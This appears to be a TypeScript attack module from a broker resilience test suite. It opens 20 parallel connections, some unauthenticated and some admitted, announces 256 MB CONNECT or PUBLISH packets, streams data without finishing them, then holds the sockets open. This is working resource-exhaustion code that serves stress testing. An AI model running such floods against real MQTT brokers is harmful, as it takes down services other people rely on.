import { setTimeout as delay } from 'node:timers/promises'
import { type Attack, inParallel } from '../attack.ts'
import { admitted, open, write } from '../wire-client.ts'

const CONNECTIONS = 20
const CHUNK = Buffer.alloc(64 * 1_024)
/** Each sends so much of the 256 MB that it has announced. */
const CHUNKS = 400
const CONNECT_OF_256_MB = Buffer.from([0x10, 0xff, 0xff, 0xff, 0x7f])
const PUBLISH_OF_256_MB = Buffer.from([0x30, 0xff, 0xff, 0xff, 0x7f])

/** Announces packets of 256 MB, before and after being let in, and sends them without ever coming to their end. */
export const attack: Attack = (port) =>
  inParallel(CONNECTIONS, async (index) => {
    const stranger = index % 2 === 0
    const socket = stranger ? await open(port) : await admitted(port, `attacker-${index}`)
    if (socket === null) return
    let alive = await write(socket, stranger ? CONNECT_OF_256_MB : PUBLISH_OF_256_MB)
    for (let sent = 0; alive && sent < CHUNKS; sent++) alive = await write(socket, CHUNK)
    if (alive) await delay(60_000)
  })
